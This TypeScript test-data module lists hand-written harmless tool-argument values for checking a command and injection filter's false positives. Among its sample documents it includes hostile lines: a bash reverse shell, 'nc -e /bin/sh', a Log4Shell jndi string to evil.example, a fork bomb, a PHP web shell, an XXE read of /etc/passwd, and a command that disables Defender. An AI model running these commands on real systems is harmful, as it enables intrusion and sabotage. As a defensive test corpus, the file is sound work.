/**
 * Arguments that look nasty and are not, one a line, written by hand after what agents and people send to tools every day.
 *
 * @module
 */
const lines = (text: string): readonly string[] => text.split('\n').filter((line) => line.trim() !== '')

/** Harmless values with the arguments they are put into: `<server>.<tool> <parameter>`. */
export const benignSeeds: readonly {
  readonly family: string
  readonly into: readonly string[]
  readonly seeds: readonly string[]
}[] = [
  {
    family: 'names and titles',
    into: ['crm.create name', 'issue.create title', 'music.search artist', 'shop.add product', 'crm.create company', 'cal.add label'],
    seeds: lines(String.raw`
Tom & Jerry
AT&T
Marks & Spencer
O'Reilly & Associates
Rock 'n' Roll
Q&A; part two
P&L <2026>
Sean O'Connor
D'Angelo
The "best" of 2026
100% cotton
C++ & C#
R&D (draft)
Fish | Chips
Salt; pepper; sugar
Drop tables and chairs
Dropdown table
Union Select Committee
Select a union
Order by phone
Dogs and cats
Ben & Jerry's
"Who's Who"
AC/DC
#1 hit
50 ways to leave
Yes/No
What is love?
Fix bug #123: crash on start
[WIP] Refactor
feat(api): add endpoint
The cat; the dog
10 > 9
a < b
$100 & more
Price: $5.00
Hello, world!
node.js meetup
Make or break
Kill Bill: Vol. 1
Find your way
Cut & Paste
Top | Trending
Café & Bar
L'Oréal
Let's go -- now
1 or 2 players
Alice or Bob
true or false
Simon & Garfunkel (live)
Foo (Bar) [Baz]
Don't stop
50/50
Nothing else matters; a study
{placeholder}
~approx~
*starred*
A/B testing
Dr. Who & the sleepers
10-4, over and out
Nice -- very nice
<3
; )
Update on order by John
Insert coin
O'Brien -- Smith
McDonald's #42
Jack's; Jill's
Grant all wishes
The Matrix: Reloaded (2003)
who am i
date night
time & money
sort of
history & science
test && learn
`),
  },
  {
    family: 'documents',
    into: ['notes.create body', 'github.create_issue body', 'wiki.write content', 'chat.post message', 'docs.save text', 'git.commit message', 'mail.send body', 'pr.comment comment'],
    seeds: lines(String.raw`
To delete everything run rm -rf / (do not).
An SQL injection looks like ' OR 1=1 -- in the user name.
SELECT * FROM users; DROP TABLE users; -- is the classic.
Use $(pwd) or backticks in shell scripts.
Run curl -fsSL https://example.com/install.sh | sh to install.
The payload was {{7*7}} and the server answered 49.
Jinja: {{ ''.__class__.__mro__ }} walks the classes.
import os; os.system('ls') is discouraged.
Never call eval(input()) in Python.
__import__('os').system('id') is an example of what to block.
Put your key in ~/.ssh/id_rsa and chmod 600 it.
Copy .env.example to .env and fill it in.
We keep secrets out of /etc/passwd and /etc/shadow.
<!DOCTYPE html><html><body>Hi</body></html>
<!ENTITY x SYSTEM "file:///etc/passwd"> is an XXE.
Path traversal: ../../etc/passwd in the file name.
The regex (a+)+b backtracks.
A fork bomb: :(){ :|:& };:
const cp = require('child_process'); cp.execSync('ls')
<?php system($_GET['cmd']); ?> was found on the server.
Runtime.getRuntime().exec("id") in Java.
subprocess.run(["ls", "-l"], shell=True)
{"$where": "this.a == 1"} is slow in MongoDB.
{"__proto__": {"x": 1}} is dangerous to merge.
rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== starts a serialized object.
O:8:"stdClass":0:{} is PHP.
!!python/object/apply:os.system is a YAML tag.
See https://example.com/?a=1;b=2&c=3
Line one
Tom & Jerry; Itchy & Scratchy
powershell -enc is used by malware.
Set-MpPreference -DisableRealtimeMonitoring $true disables Defender.
Please enter your password on the login page.
bash -i >& /dev/tcp/10.0.0.1/4444 is a reverse shell.
nc -e /bin/sh was in the log.
${"$"}{jndi:ldap://evil.example/a} caused Log4Shell.
The fix in a16f2: use execFile instead of exec; see #42.
fix: escape ; and && in arguments (closes #9)
docs: explain UNION SELECT
UPDATE users SET name = 'x' WHERE id = 1; should be in a transaction.
for i in {1..1000000}; do echo $i; done
<script>alert(1)</script> must be escaped.
SELECT sleep(5) shows a time-based injection.
chmod 777 is never the answer.
crontab -e opens the editor.
git push --force; git reset --hard
echo "hello" > /tmp/x && cat /tmp/x
while true; do date; sleep 1; done
The .npmrc holds a token.
See ~/.aws/credentials for the profile.
`),
  },
  {
    family: 'documents of several lines',
    into: ['notes.create body', 'wiki.write content', 'git.commit message', 'fs.write_file content'],
    seeds: [
      '# SQL tutorial\n\n```sql\nSELECT * FROM users WHERE 1=1 OR id = 2;\nDROP TABLE users;\n```\n',
      '#!/bin/bash\nset -e\nrm -rf build\ncurl -s https://example.com | sh\n',
      'import os\nimport subprocess\n\nsubprocess.run("ls", shell=True)\nos.system("ls")\n',
      'const { exec } = require("child_process")\nexec("ls", () => {})\n',
      'name: ci\non: push\njobs:\n  test:\n    steps:\n      - run: npm ci && npm test\n',
      'Subject: hello\r\nBcc: nobody\r\n\r\nText',
      'location ~ \\.php$ {\n  deny all;\n}\n',
      'FROM alpine\nRUN apk add --no-cache curl && curl -fsSL https://example.com | sh\n',
      'Dear all,\n\nplease do not send passwords.\n\nBest; Bob & Al\n',
      'a | b\n--|--\n1 | `id`\n',
      'User-agent: *\nDisallow: /etc/\n',
      '{{#each items}}\n  <li>{{this.name}}</li>\n{{/each}}\n',
      '<xml><!-- SELECT 1 --><a href="?a=1&b=2"/></xml>',
      'INSERT INTO t VALUES (1);\nINSERT INTO t VALUES (2);\n',
      'The `$(...)` form nests; `` `...` `` does not.\n\n    $ echo $(date)\n',
    ],
  },
  {
    family: 'commands of every day',
    into: ['shell.run command', 'terminal.execute cmd', 'ops.exec commandline'],
    seeds: lines(String.raw`
npm test && npm run build
grep -r "foo|bar" src | head -5
ls -la
git status
git commit -m "fix: a; b"
git log --oneline | head -20
rm -rf node_modules dist
rm -rf ./build
rm -rf /tmp/build-1234
rm file.txt
find . -name '*.pyc' -delete
find src -type f -exec grep -l TODO {} +
cat README.md
cat package.json | jq .version
cat /etc/os-release
cat /etc/hosts
echo "Tom & Jerry"
echo 'rm -rf /'
echo hello > out.txt
curl https://api.example.com/v1/items
curl -sS https://example.com -o page.html
curl -X POST -H 'Content-Type: application/json' -d '{"a":1}' https://example.com
curl -s https://api.example.com | jq '.items[]'
curl -s https://api.example.com | python3 -m json.tool
wget https://example.com/data.csv
python3 script.py --input data.csv
python -m pytest -k "not slow"
python3 -c "print(1+1)"
node -e "console.log(1)"
docker build -t app . && docker run --rm app
docker run -v "$PWD":/app -w /app node:20 npm test
docker compose up -d
kubectl get pods -n default
kubectl logs deploy/web --tail=100
ps aux | grep node
kill 1234
kill -9 4321
chmod +x script.sh
chmod 644 file.txt
chmod -R 755 public
chown -R app:app ./data
sudo apt-get update && sudo apt-get install -y jq
tar czf out.tgz dist
tar -xzf a.tgz -C /tmp/x
zip -r out.zip dist
sed -i 's/foo/bar/g' src/a.ts
awk '{print $1}' file.txt | sort | uniq -c
for f in *.txt; do echo "$f"; done
while read l; do echo "$l"; done < in.txt
if [ -f a ]; then cat a; fi
export NODE_ENV=production
FOO=bar npm start
NAME=world; echo "hello $NAME"
VERSION=$(node -p "require('./package.json').version") && echo $VERSION
echo $(date +%F)
echo "today: ${"`"}date${"`"}"
cp .env.example .env
source .env
docker run --env-file .env app
ssh -i ~/.ssh/id_rsa user@host.example uptime
ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519
chmod 600 ~/.ssh/id_rsa
ls ~/.ssh
scp build.tgz user@host.example:/srv/app/
rsync -avz dist/ user@host.example:/srv/app/
crontab -l
history | tail -20
systemctl status nginx
sudo systemctl restart nginx
journalctl -u nginx --since today
df -h && du -sh *
ping -c 4 example.com
nc -zv localhost 5432
telnet localhost 25
openssl s_client -connect example.com:443 </dev/null
openssl x509 -in cert.pem -noout -text
base64 image.png > image.b64
base64 -d image.b64 > image.png
echo aGVsbG8= | base64 -d
xxd file.bin | head
dd if=/dev/zero of=test.img bs=1M count=10
dd if=in.iso of=/dev/null bs=1M
make -j4 && make install
cargo test -- --nocapture
go test ./...
mvn -q -DskipTests package
pip install -r requirements.txt
npx prettier --write .
psql -c "SELECT * FROM users WHERE id = 1"
mysql -e "SHOW TABLES"
sqlite3 db.sqlite "select count(*) from t;"
terraform plan -out=plan.tf
ansible-playbook site.yml -l web
git checkout -- file.txt
git push --force-with-lease origin main
git reset --hard HEAD~1
git clean -fdx
git config user.name "Bob"
grep -rn "eval(" src
grep -E '^(a|b)+$' words.txt
rg 'password' src --type ts
ls *.{js,ts}
mkdir -p a/{b,c,d}
touch file{1..10}.txt
echo {1..5}
seq 1 100
time npm run build
timeout 30 npm test
nohup npm start > app.log 2>&1 &
npm run build 2>&1 | tee build.log
test -d dist || mkdir dist
[ -n "$CI" ] && echo ci
cd packages/a && npm ci; cd -
printf '%s\n' "a" "b"
printf "\x41\n"
echo -e "a\tb"
tr 'a-z' 'A-Z' < in.txt
cut -d: -f1 file.txt
xargs -n1 echo < list.txt
find . -name '*.log' | xargs rm -f
watch -n 5 kubectl get pods
uname -a
whoami
id
env
printenv PATH
which python3
hostname
date -u
uptime
dir C:\Users\bob\Documents
type notes.txt
copy a.txt b.txt
del old.log
Get-ChildItem -Recurse -Filter *.ps1
Get-Content .\notes.txt | Select-String foo
Remove-Item .\dist\old.js
ipconfig /all
tasklist | findstr node
powershell -File build.ps1
cmd /c "dir /b"
echo %PATH%
ls | wc -l; echo done
sleep 5; echo ok
tail -f /var/log/nginx/access.log
head -n 20 /var/log/app.log
cat << EOF > config.yml
ffmpeg -i in.mp4 -vf "scale=1280:-1" out.mp4
convert in.png -resize 50% out.png
jq -r '.a | .b' x.json
yq '.a.b' x.yml
sort -u a.txt > b.txt
diff <(sort a) <(sort b)
comm -12 <(sort a) <(sort b)
echo "a;b;c" | tr ';' '\n'
bash scripts/deploy.sh staging
sh ./configure --prefix=/usr/local
bash -c 'echo hi'
perl -pe 's/a/b/' file
ruby -e 'puts 1'
php -v
export PATH="$HOME/bin:$PATH"
mv a.txt b.txt
ln -s ../shared shared
reboot --help
`),
  },
  {
    family: 'paths of every day',
    into: ['fs.read_file path', 'fs.write_file file_path', 'docs.open filename', 'fs.list directory', 'img.convert output_path'],
    seeds: lines(String.raw`
src/index.ts
./src/../src/index.ts
../sibling/file.md
../../packages/core/src/index.ts
docs/env.md
docs/../docs/a.md
README.md
a.b.c.d.txt
file..name.txt
v1..v2.diff
...
.gitignore
.github/workflows/ci.yml
.eslintrc.json
.env.example
.env.sample
.env.template
config/.env.test
.vscode/settings.json
.dockerignore
.prettierrc
Tom & Jerry.mkv
R&D report (final).docx
a;b.txt
Notes; draft.md
John's file.txt
100% done.txt
50%25.txt
my%20file.txt
price $5.txt
file (1).pdf
file [old].pdf
{template}.html
{{cookiecutter.name}}/setup.py
${"$"}{HOME}/notes.txt
$HOME/project/a.txt
~/Documents/report.pdf
~/projects/app/src/main.rs
/home/bob/project/a.txt
/Users/bob/Documents/report.docx
/var/log/nginx/access.log
/var/www/html/index.html
/tmp/out.json
/data/a/../b.txt
/etc/hosts
/etc/os-release
/etc/nginx/nginx.conf
/usr/share/dict/words
/usr/local/bin/tool
/opt/app/config.yml
/proc/cpuinfo
/dev/null
C:\Users\bob\Documents\report.docx
C:\Projects\app\src\main.cs
D:\data\in.csv
C:/Users/bob/a.txt
src\components\App.tsx
..\shared\lib.cs
**/*.ts
src/**/*.{ts,tsx}
*.md
[id].tsx
app/[slug]/page.tsx
app/(group)/page.tsx
src/foo.ts:12
src/foo.ts:12:5
aux.c
con.md
console.log
nul.ts
etc/passwd.md
docs/etc/hosts.md
passwd.ts
shadow.css
docs/ssh/id.md
src/credentials.ts
src/secrets/index.ts
tests/fixtures/passwd
id_rsa.pub
ssh_config.md
keys.json
token.ts
login.tsx
cookies.ts
history.txt
backup~1.txt
file~
a..b/c
2026-01-01T00:00:00.log
résumé.pdf
日本語/ファイル.txt
naïve – draft.txt
it’s here.txt
a+b=c.txt
foo@2x.png
node_modules/@types/node/index.d.ts
@scope/pkg/file.js
file,with,commas.csv
file with spaces.txt
'quoted'.txt
"quoted".txt
back${"`"}tick.txt
$weird.txt
#hash.txt
question?.txt
a|b.txt
less & more.txt
cat & dog.jpg
<generated>.ts
file:///home/bob/project/a.txt
file:///C:/Users/bob/a.txt
windows/README.md
src/windows/system.ts
proc/self.md
root/file.txt
home/index.html
`),
  },
  {
    family: 'URLs of every day',
    into: ['web.fetch url', 'hook.call webhook_url', 'browser.navigate url'],
    seeds: lines(String.raw`
https://example.com
https://example.com/?a=1&b=2
https://example.com/a;b=1;c=2?x=1;y=2
https://example.com/search?q=tom+%26+jerry
https://example.com/search?q=rm%20-rf%20/
https://example.com/search?q=select+*+from+t
https://example.com/search?q=it%27s
https://example.com/a/../b
https://example.com/../a
https://example.com/%E6%97%A5
https://example.com/#/a/b?c=d
https://example.com/~bob/
https://example.com/a(b)
https://example.com/a$b
https://example.com/?cat=1&id=2&ls=3
https://example.com/?env=prod&sort=asc
https://example.com/x.php?id=5
https://user.example.com:8443/path
http://localhost:3000/
https://example.com/?redirect=https%3A%2F%2Fexample.org%2Fa%3Fb%3Dc
https://example.com/a%2Fb
https://example.com/a.b.c
https://example.com/?q=1-1
https://example.com/?filter[name]=x
https://example.com/?q={query}
https://example.com/{id}/x
https://maps.example.com/@52.5,13.4,12z/data=!3m1!4b1
https://example.com/?q=a|b
https://example.com/wiki/Cat_(animal)
https://example.com/wiki/AT%26T
https://example.com/?x=1;id=2
https://example.com/?s='hello'
https://example.com/?q="exact"
https://example.com/etc/passwd-policy
https://github.com/a/b/blob/main/src/x.ts#L1-L2
https://example.com/?order=name&by=asc
data:text/plain,hello
mailto:bob@example.com?subject=a&body=b
wss://example.com/socket
https://example.com/?cmd=list
`),
  },
  {
    family: 'identifiers of every day',
    into: ['git.checkout branch', 'db.table table', 'crm.get user_id', 'npm.info package', 'docker.logs container', 'crm.find username', 'mail.find email'],
    seeds: lines(String.raw`
main
feature/add-login
fix/issue-123
release/v1.2.x
dependabot/npm_and_yarn/a-1.2.3
user@example.com
o'brien@example.com
bob+tag@example.com
550e8400-e29b-41d4-a716-446655440000
12345
-1
usr_1234567890abcdef
@scope/pkg
@scope/pkg@1.2.3
pkg@^1.0.0
node:20-alpine
registry.example.com/app:1.2
HEAD~1
HEAD^
v1.0.0..v1.1.0
a..b
main...feature
public.users
"Users"
[dbo].[Users]
order_items
my-container_1
web.1
arn:aws:s3:::bucket/key
projects/p/locations/l
refs/heads/main
refs/pull/12/head
stash@{0}
abc123def
*
%admin%
jean-luc
d'artagnan
O'Neil
smith & sons
DOMAIN\user
user:group
a/b/c
1.2.3
~1.2.3
>=1.0 <2.0
1,2,3
name ASC
created_at desc, id
user.name
$id
#general
C0123456789
x=1
null
true
`),
  },
  {
    family: 'hosts of every day',
    into: ['net.ping host', 'dns.lookup domain', 'ssh.connect hostname'],
    seeds: lines(String.raw`
google.com
10.0.0.1
10.0.0.0/8
192.168.1.1:8080
localhost
::1
[::1]:443
fe80::1%eth0
sub.domain.example.co.uk
xn--bcher-kva.example
bücher.example
*.example.com
_dmarc.example.com
user@host.example
a.example, b.example
my-host_1
https://example.com/?a=1&b=2
example.com.
db.internal:5432
EXAMPLE.COM
`),
  },
  {
    family: 'statements of every day',
    into: ['postgres.query sql', 'db.execute query', 'mysql.run statement'],
    seeds: lines(String.raw`
SELECT * FROM users WHERE id = 1
SELECT * FROM users WHERE name = 'O''Brien'
SELECT * FROM t WHERE 1=1 AND a = 2
SELECT a, b FROM t WHERE a = 1 OR b = 2
SELECT * FROM t WHERE a = 1 OR a = 2 -- both
SELECT * FROM t WHERE note = 'a; b'
SELECT * FROM t WHERE note LIKE '%--%'
SELECT 'DROP TABLE x' AS text
SELECT id FROM a UNION SELECT id FROM b
SELECT id, name FROM a UNION ALL SELECT id, name FROM b ORDER BY 1
SELECT count(*) FROM information_schema.tables
SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'
SELECT version()
SELECT now(); SELECT 1
/* report */ SELECT * FROM t
-- report
SELECT * FROM t LIMIT 10; 
INSERT INTO t (a) VALUES (1); INSERT INTO t (a) VALUES (2);
UPDATE users SET name = 'x' WHERE id = 1
DELETE FROM t WHERE id = 1
BEGIN; UPDATE a SET x = 1 WHERE id = 2; COMMIT;
CREATE TABLE t (id int); CREATE INDEX i ON t (id);
DROP TABLE IF EXISTS tmp_x
ALTER TABLE t ADD COLUMN c text
WITH a AS (SELECT 1) SELECT * FROM a
WITH RECURSIVE t(n) AS (VALUES (1) UNION ALL SELECT n + 1 FROM t WHERE n < 100) SELECT sum(n) FROM t
WITH RECURSIVE tree AS (SELECT id, parent FROM n WHERE parent IS NULL UNION ALL SELECT n.id, n.parent FROM n JOIN tree ON n.parent = tree.id) SELECT * FROM tree
EXPLAIN ANALYZE SELECT * FROM t
SHOW TABLES
DESCRIBE users
PRAGMA table_info(t)
SELECT * FROM t WHERE a IN (SELECT b FROM c)
SELECT CASE WHEN a = 1 THEN 'x' ELSE 'y' END FROM t
SELECT * FROM generate_series(1, 1000)
SELECT date_trunc('day', ts) AS d, count(*) FROM e GROUP BY 1 ORDER BY 1
SELECT u.password_changed_at FROM users u
SELECT * FROM a CROSS JOIN b
SELECT a || ' or ' || b FROM t
SELECT * FROM t WHERE active = true OR deleted = false
GRANT SELECT ON t TO reader
SET search_path TO app; SELECT * FROM t
SELECT * FROM t WHERE x = $1 OR y = $2
SELECT * FROM t WHERE name = 'sleep' OR name = 'bench'
SELECT json_build_object('a', 1)
SELECT "order", "select" FROM t
TRUNCATE TABLE staging_x
COPY t FROM STDIN
`),
  },
  {
    family: 'templates of every day',
    into: ['mail.render template', 'report.format template_body', 'site.build template'],
    seeds: lines(String.raw`
Hello {{ user.name }}
Hello {{name}}, you owe {{ amount | currency }}
{% for item in items %}{{ item.title }}{% endfor %}
{{#each items}}{{this.name}}{{/each}}
{{#if user}}Hi{{/if}}
{{> header}}
{% include "header.html" %}
{% extends "base.html" %}
<%= user.name %>
<% if (user) { %>Hi<% } %>
${"$"}{user.name}
Dear ${"$"}{firstName} ${"$"}{lastName},
#{name}
{{ price * quantity }}
{{ items | length }}
{{ date | date("Y-m-d") }}
{{ 'text' | upper }}
{{ config.title }}
{{ page.title }} - {{ site.name }}
<#if user??>Hi ${"$"}{user}</#if>
<#list items as i>${"$"}{i}</#list>
#set($name = "Bob") Hi $name
#foreach($i in $items)$i#end
{{ "now" | date: "%Y" }}
{{ loop.index }}
{{ super() }}
{{ self.title() }}
<p th:text="${"$"}{user.name}">x</p>
{{ range .Items }}{{ .Name }}{{ end }}
{{ .Values.image.tag }}
{{ include "chart.labels" . }}
@{user.name}
`),
  },
  {
    family: 'expressions and code of every day',
    into: ['calc.evaluate expression', 'sheet.compute formula', 'python.run code'],
    seeds: lines(String.raw`
2*(3+4)
(1 + 2) * 3 / 4
sqrt(16) + 2**10
sin(pi/2)
10 % 3
x^2 + y^2
=SUM(A1:A10)
=IF(A1>0, "yes", "no")
=VLOOKUP(A1, Sheet2!A:B, 2, FALSE)
a > b && c < d
price * 1.19
len(items) > 3
max(1, 2, 3)
round(3.14159, 2)
[x * 2 for x in range(10)]
sum(i for i in range(1000))
print("hello")
sorted(names, key=len)
const a = 1; a + 1
items.filter(x => x > 1).map(x => x * 2)
new Date().toISOString()
JSON.stringify({ a: 1 })
Math.max(...values)
df.groupby("a").sum()
import math; math.sqrt(2)
import pandas as pd
def f(x): return x + 1
user.name == "bob" and user.age > 18
status in ["open", "closed"]
"a" * 10
100 / 3
1e6 * 2
today() - days(7)
$.items[?(@.price < 10)]
.items[] | select(.a == 1)
a or b
not (a and b)
`),
  },
  {
    family: 'patterns of every day',
    into: ['text.grep pattern', 'log.search regex'],
    seeds: lines(String.raw`
foo|bar
^\d{4}-\d{2}-\d{2}$
\bTODO\b
[a-z]+@[a-z]+\.com
(foo|bar)+
^(\w+)\s+(\w+)$
.*error.*
import .* from ['"].*['"]
function\s+(\w+)\(
(?:https?:\/\/)?example\.com
\$\(.*\)
[;|&]
^\s*#
(\d+\.)+\d+
(?i)password
a{2,5}
eval\(
rm -rf
SELECT .* FROM
console\.log\(.*\)
([A-Z][a-z]+)
\.\./
<script>
^$
(ab)*c
(?:[a-z]+-)*[a-z]+
\w+\.\w+
.*\.ts$
`),
  },
  {
    family: 'serialized documents of every day',
    into: ['app.import yaml', 'config.set json', 'cache.put data', 'svg.render svg'],
    seeds: [...lines(String.raw`
{"a": 1, "b": [true, null]}
{"type": "object", "properties": {"a": {"type": "string"}}}
{"@type": "Person", "name": "Bob"}
{"@context": "https://schema.org", "@type": "Product"}
{"$type": "note"}
{"constructor": "ferrari"}
{"prototype": "v2"}
{"class": "btn primary"}
{"query": {"match": {"a": 1}}}
a: 1
key: !important value
x: !!str 1
x: !!binary aGVsbG8=
!Ref MyBucket
Fn: !Sub "${"$"}{AWS::StackName}-x"
<?xml version="1.0"?><a><b>1</b></a>
<!DOCTYPE html><html></html>
<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">
<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><path d="M0 0"/></svg>
<svg><use xlink:href="#a"/></svg>
<note>AT&amp;T &lt;3</note>
aGVsbG8gd29ybGQgdGhpcyBpcyBiYXNlIDY0
iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ
eyJhIjoxLCJiIjoyfQ==
H4sIAAAAAAAAA8tIzcnJBwCGphA2BQAAAA==
UEsDBBQAAAAIAA==
a=1&b=2&c=3
name,age
O: yes
`), 'a: 1\nb:\n  - c\n  - d: "e; f"\n', 'command: npm test && npm run build\n', 'on:\n  push:\n    branches: [main]\n'],
  },
  {
    family: 'searches',
    into: ['web.search query', 'docs.search q', 'github.search search_query', 'shop.search term'],
    seeds: lines(String.raw`
how to use rm -rf safely
what does chmod 777 do
' OR 1=1 explained
union select tutorial
site:example.com "foo bar" -baz
is:open label:bug author:bob
cats & dogs
path traversal ../../etc/passwd
"exact phrase" OR other
a AND b OR c
$100..$200
C# vs C++
jinja2 {{ }} syntax
why is eval(x) bad
log4j ${"$"}{jndi:ldap} fix
foo; bar
best pizza near me?
repo:a/b is:pr
it's raining
SELECT statement syntax
`),
  },
  {
    family: 'mail headers',
    into: ['mail.send to', 'mail.send subject', 'mail.send cc'],
    seeds: lines(String.raw`
bob@example.com
Bob <bob@example.com>
"Bob, B." <bob@example.com>
a@example.com, b@example.com
a@example.com; b@example.com
Re: Tom & Jerry
Fwd: [x] 50% off!
Invoice #42 (final)
Question: what's next?
Meeting @ 10:00; room 5
`),
  },
  {
    family: 'free values',
    into: ['app.set value', 'form.fill input', 'auth.login password', 'app.note extra'],
    seeds: lines(String.raw`
p@ss;w0rd|x
a'b"c
$(not a command)
x && y
1; 2; 3
../up
{{x}}
100
yes
Tom & Jerry
<b>bold</b>
O'Hara
50%
~/x
a|b|c
c:\x
`),
  },
]
